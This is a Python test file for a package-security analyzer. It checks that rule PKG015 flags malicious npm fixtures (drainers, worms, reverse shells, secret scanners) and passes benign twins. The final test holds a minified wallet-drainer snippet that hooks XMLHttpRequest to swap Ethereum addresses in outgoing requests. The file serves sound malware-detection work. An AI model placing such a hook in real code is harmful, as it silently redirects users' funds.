"""Module-level npm behaviours: the malicious fixtures of PKG015 raise their variant, their
ordinary twins (a polyfill, a dapp, a release tool, a pre-commit scanner) raise none."""

from __future__ import annotations

from pathlib import Path

import pytest

from outwork.analyzers.packages.rules.javascript import SuspiciousJavaScript, module_behaviours

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "rules" / "PKG015"


@pytest.mark.parametrize(
    ("name", "variant"),
    [
        ("drainer.js", SuspiciousJavaScript.WALLET_HOOK),
        ("provider_hook.js", SuspiciousJavaScript.WALLET_HOOK),
        ("worm.js", SuspiciousJavaScript.WORM),
        ("workflow.js", SuspiciousJavaScript.WORKFLOW_WRITE),
        ("scanner.js", SuspiciousJavaScript.SECRET_SCANNER),
        ("reverse_shell.js", SuspiciousJavaScript.REVERSE_SHELL),
    ],
)
def test_malicious_module_raises(name: str, variant: object) -> None:
    found = [v for v, _, _ in module_behaviours((FIXTURES / name).read_text())]
    assert found == [variant]


@pytest.mark.parametrize(
    "name", ["polyfill.js", "dapp.js", "release.js", "hooks.js", "index.js", "terminal_server.js"]
)
def test_ordinary_twin_raises_nothing(name: str) -> None:
    assert module_behaviours((FIXTURES / name).read_text()) == []


def test_minified_drainer_still_raises() -> None:
    minified = (
        "var e=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(t){return "
        'e.call(this,t.replace(/0x[a-fA-F0-9]{40}/g,"0x0000000000000000000000000000000000000001"))}'
    )
    assert [v for v, _, _ in module_behaviours(minified)] == [SuspiciousJavaScript.WALLET_HOOK]
